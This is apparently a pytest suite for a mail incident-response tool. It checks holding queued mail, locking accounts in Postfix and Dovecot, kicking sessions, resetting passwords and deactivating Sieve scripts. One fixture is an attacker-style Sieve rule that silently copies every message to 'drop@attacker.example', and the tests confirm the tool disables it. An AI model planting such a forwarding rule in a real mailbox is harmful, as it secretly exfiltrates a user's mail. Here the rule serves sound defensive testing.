"""Containment actions on real Postfix and Dovecot: hold/release, the check_sasl_access lock,
the deny passdb, kick, Sieve deactivation and a new password, each undone where it can be."""

from __future__ import annotations

import contextlib
import imaplib
import smtplib
import subprocess
from collections.abc import Callable
from pathlib import Path

import pytest
from mailstack import DovecotInstance, PostfixInstance
from mailstack.common import require_program, wait_for
from mailstack.factories import DovecotFactory, PostfixFactory

from mailwarden.response.dovecot import DovecotResponder
from mailwarden.response.executor import LocalExecutor
from mailwarden.response.postfix import PostfixResponder

VICTIM, VICTIM_PW = "keisatsu@city.example.jp", "stolen-but-real"
OTHER, OTHER_PW = "kacho@city.example.jp", "untouched-password"
USERS = {VICTIM: VICTIM_PW, OTHER: OTHER_PW}
WHY = "test: account sending like a spammer"


def postfix_responder(postfix: PostfixInstance) -> PostfixResponder:
    """A responder on the instance's configuration, its access map in the instance's folder."""
    executor = LocalExecutor(postfix_config_dir=postfix.config_dir)
    return PostfixResponder(executor, access_map=postfix.root / "sasl_access", actor="tester")


def dovecot_responder(dovecot: DovecotInstance) -> DovecotResponder:
    """A responder on the instance's dovecot.conf, its deny file in the instance's folder."""
    executor = LocalExecutor(dovecot_config=dovecot.config_path)
    return DovecotResponder(executor, deny_file=dovecot.root / "deny",
                            passwd_file=dovecot.passwd_path, actor="tester")


def queue_names(postfix: PostfixInstance) -> dict[str, str]:
    """queue id -> queue name ('hold', 'deferred', ...)."""
    return {str(e["queue_id"]): str(e["queue_name"]) for e in postfix.postqueue_json()}


def test_hold_selects_by_sender_and_sasl_login_and_release_undoes(
    dovecot_factory: DovecotFactory, postfix_factory: PostfixFactory
) -> None:
    """hold puts the victim's mail (own sender, and a forged sender sent with its login) on hold,
    leaves other mail alone and is idempotent; undo (release) takes exactly those out again."""
    dovecot = dovecot_factory(USERS)
    postfix = postfix_factory(dovecot=dovecot)  # relay to a closed port: mail stays queued
    own = postfix.submit(VICTIM, VICTIM_PW, VICTIM, ["a@example.org"])
    forged = postfix.submit(VICTIM, VICTIM_PW, "ceo@other.example", ["b@example.org"])
    other = postfix.submit(OTHER, OTHER_PW, OTHER, ["c@example.org"])
    postfix.wait_for(lambda: {own, forged, other} <= set(queue_names(postfix)), what="queued")
    responder = postfix_responder(postfix)

    held = responder.hold(VICTIM, reason=WHY)

    assert held.changed and sorted(held.result["queue_ids"]) == sorted([own, forged])
    names = queue_names(postfix)
    assert names[own] == names[forged] == "hold" and names[other] != "hold"
    again = responder.hold(VICTIM, reason=WHY)
    assert not again.changed and again.undo is None
    released = responder.undo(held, reason="false alarm")
    assert sorted(released.result["queue_ids"]) == sorted([own, forged])
    assert "hold" not in {queue_names(postfix)[q] for q in (own, forged, other)}


def test_sasl_access_lock_holds_then_rejects_and_unlock_restores(
    dovecot_factory: DovecotFactory, postfix_factory: PostfixFactory
) -> None:
    """A HOLD line holds the account's next submission, REJECT refuses it, unlock lets it pass;
    locking twice writes one line, and other accounts are never affected."""
    dovecot = dovecot_factory(USERS)
    postfix = postfix_factory(dovecot=dovecot)
    responder = postfix_responder(postfix)
    responder.unlock(VICTIM, reason="create the empty map")
    postfix.set_params(smtpd_sender_restrictions=f"check_sasl_access hash:{responder.access_map}")

    locked = responder.lock(VICTIM, reason=WHY)
    assert not responder.lock(VICTIM, reason=WHY).changed
    assert responder.access_map.read_text() == f"{VICTIM} HOLD\n"
    first = postfix.submit(VICTIM, VICTIM_PW, VICTIM, ["a@example.org"])
    bystander = postfix.submit(OTHER, OTHER_PW, OTHER, ["c@example.org"])
    names = queue_names(postfix)
    assert names[first] == "hold" and names[bystander] != "hold"

    rejecting = responder.lock(VICTIM, reason=WHY, mode="REJECT")
    with pytest.raises(smtplib.SMTPRecipientsRefused, match="SASL login name rejected"):
        postfix.submit(VICTIM, VICTIM_PW, VICTIM, ["a@example.org"])
    responder.undo(rejecting, reason="back to HOLD")
    assert responder.access_map.read_text() == f"{VICTIM} HOLD\n"

    responder.undo(locked, reason="incident closed")
    assert responder.access_map.read_text() == ""
    after = postfix.submit(VICTIM, VICTIM_PW, VICTIM, ["a@example.org"])
    assert queue_names(postfix)[after] != "hold"


DENY_PASSDB = "passdb {{\n  driver = passwd-file\n  args = {path}\n  deny = yes\n}}\n"


def put_deny_passdb_first(dovecot: DovecotInstance, deny_file: Path) -> None:
    """Insert the deny passdb before the normal one in dovecot.conf and reload Dovecot."""
    text = dovecot.config_path.read_text()
    block = DENY_PASSDB.format(path=deny_file)
    dovecot.config_path.write_text(text.replace("passdb {", block + "\npassdb {", 1))
    reloaded = dovecot.doveadm("reload")
    assert reloaded.returncode == 0, reloaded.stderr


def test_deny_file_locks_imap_login_and_unlock_restores(
    dovecot_factory: DovecotFactory,
) -> None:
    """Listed in the deny passdb the victim cannot log into IMAP (others can); undo restores."""
    dovecot = dovecot_factory(USERS)
    responder = dovecot_responder(dovecot)
    responder.unlock(VICTIM, reason="create the empty deny file")
    put_deny_passdb_first(dovecot, responder.deny_file)
    dovecot_wait(lambda: dovecot.imap_login(VICTIM, VICTIM_PW), "login before the lock")

    locked = responder.lock(VICTIM, reason=WHY)
    assert not responder.lock(VICTIM, reason=WHY).changed
    assert responder.deny_file.read_text() == f"{VICTIM}\n"
    dovecot_wait(lambda: not dovecot.imap_login(VICTIM, VICTIM_PW), "denied login")
    assert dovecot.imap_login(OTHER, OTHER_PW)

    responder.undo(locked, reason="incident closed")
    dovecot_wait(lambda: dovecot.imap_login(VICTIM, VICTIM_PW), "login after unlock")


def dovecot_wait(predicate: Callable[[], bool], what: str, timeout: float = 10.0) -> None:
    """Poll predicate (Dovecot notices a changed file or a reload within a moment)."""
    wait_for(predicate, timeout, what=what)


def session_ended(imap: imaplib.IMAP4) -> bool:
    """True once a NOOP on the session fails."""
    try:
        imap.noop()
    except (imaplib.IMAP4.abort, imaplib.IMAP4.error, OSError):
        return True
    return False


def test_kick_ends_an_open_imap_session_and_has_no_undo(
    dovecot_factory: DovecotFactory,
) -> None:
    """After kick the victim's open IMAP session fails its next command while another user's
    session goes on; the Action says why there is no undo."""
    dovecot = dovecot_factory(USERS)
    responder = dovecot_responder(dovecot)
    with contextlib.ExitStack() as stack:
        sessions = {}
        for user, password in USERS.items():
            imap = imaplib.IMAP4(dovecot.host, dovecot.imap_port, timeout=15)
            stack.callback(imap.shutdown)
            imap.login(user, password)
            imap.select("INBOX")
            sessions[user] = imap

        kicked = responder.kick(VICTIM, reason=WHY)

        assert kicked.undo is None and kicked.no_undo_reason
        dovecot_wait(lambda: session_ended(sessions[VICTIM]), "the kicked session to end", 5)
        assert not session_ended(sessions[OTHER])


def test_new_password_replaces_the_stolen_one(dovecot_factory: DovecotFactory) -> None:
    """reset_password writes a SHA512-CRYPT hash: the stolen password fails, the new one (given
    once as the Action's secret, absent from its record) works, the other user is untouched."""
    dovecot = dovecot_factory(USERS)
    responder = dovecot_responder(dovecot)

    action = responder.reset_password(VICTIM, reason=WHY)

    assert action.secret is not None and len(action.secret) >= 20
    assert action.secret not in repr(action) and action.secret not in str(action.record())
    assert "{SHA512-CRYPT}" in dovecot.passwd_path.read_text()
    dovecot_wait(lambda: not dovecot.imap_login(VICTIM, VICTIM_PW), "stolen password refused")
    assert dovecot.imap_login(VICTIM, action.secret)
    assert dovecot.imap_login(OTHER, OTHER_PW)
    assert action.undo is None and action.no_undo_reason


SIEVE_CONFIG = ("plugin {", "  sieve = file:~/sieve;active=~/.dovecot.sieve", "}")
FORWARD = 'require ["copy"];\nredirect :copy "drop@attacker.example";\n'


def test_sieve_deactivate_keeps_copies_and_undo_reactivates(
    dovecot_factory: DovecotFactory,
) -> None:
    """The attacker's forwarding script is copied into the Action and deactivated; undo makes it
    active again."""
    require_program("sieve-test", "dovecot-sieve")  # Pigeonhole: dovecot-sieve, -managesieved
    dovecot = dovecot_factory(USERS, extra_config=SIEVE_CONFIG)
    put = subprocess.run(
        ["doveadm", "-c", str(dovecot.config_path), "sieve", "put", "-a", "-u", VICTIM, "forward"],
        input=FORWARD, capture_output=True, text=True, timeout=30,
    )
    assert put.returncode == 0, put.stderr
    responder = dovecot_responder(dovecot)
    assert responder.sieve_scripts(VICTIM) == (["forward"], "forward")

    action = responder.sieve_deactivate(VICTIM, reason=WHY)

    assert action.changed and "attacker.example" in action.result["scripts"]["forward"]
    assert responder.sieve_scripts(VICTIM) == (["forward"], None)
    assert not responder.sieve_deactivate(VICTIM, reason=WHY).changed
    responder.undo(action, reason="it was the user's own rule")
    assert responder.sieve_scripts(VICTIM) == (["forward"], "forward")


def shift_jis_message(sender: str, rcpt: str) -> bytes:
    """A message whose body is Shift_JIS and raw 8-bit bytes (not UTF-8)."""
    head = (f"From: <{sender}>\r\nTo: <{rcpt}>\r\nSubject: invoice\r\nMIME-Version: 1.0\r\n"
            "Content-Type: text/plain; charset=Shift_JIS\r\n"
            "Content-Transfer-Encoding: 8bit\r\n\r\n").encode("ascii")
    body = "至急お支払いください。請求書を添付します。\r\n".encode("shift_jis")
    return head + body + b"8-bit: \x80\x81\xfe\xff\r\n"


def test_delete_copies_the_exact_bytes_and_keeps_what_it_cannot_copy(
    dovecot_factory: DovecotFactory, postfix_factory: PostfixFactory, tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """The copy of a deleted Shift_JIS / 8-bit message is byte for byte what `postcat -q`
    prints; a message whose copy is cut at the output bound stays held, not deleted."""
    dovecot = dovecot_factory(USERS)
    postfix = postfix_factory(dovecot=dovecot)
    sjis = postfix.submit(VICTIM, VICTIM_PW, VICTIM, ["a@example.org"],
                          message=shift_jis_message(VICTIM, "a@example.org"))
    plain = postfix.submit(VICTIM, VICTIM_PW, VICTIM, ["b@example.org"])
    postfix.wait_for(lambda: {sjis, plain} <= set(queue_names(postfix)), what="queued")
    responder = postfix_responder(postfix)
    responder.hold(VICTIM, reason=WHY)
    direct = subprocess.run(["postcat", "-c", str(postfix.config_dir), "-q", sjis],
                            capture_output=True, timeout=30, check=True).stdout
    assert "至急".encode("shift_jis") in direct and b"\x80\x81\xfe\xff" in direct

    deleted = responder.delete(VICTIM, reason=WHY, copies=tmp_path / "copies", top=tmp_path,
                               queue_ids=[sjis])

    copy = deleted.result["copies"][sjis]
    assert Path(copy["file"]).read_bytes() == direct and copy["bytes"] == len(direct)
    assert sjis not in queue_names(postfix)

    monkeypatch.setattr("mailwarden.response.executor.MAX_OUTPUT_BYTES", 100)
    kept = responder.delete(VICTIM, reason=WHY, copies=tmp_path / "copies", top=tmp_path,
                            queue_ids=[plain])
    assert not kept.changed and kept.result["not_copied"] == [plain]
    assert "longer than" in kept.result["copy_errors"][plain]
    assert queue_names(postfix)[plain] == "hold"
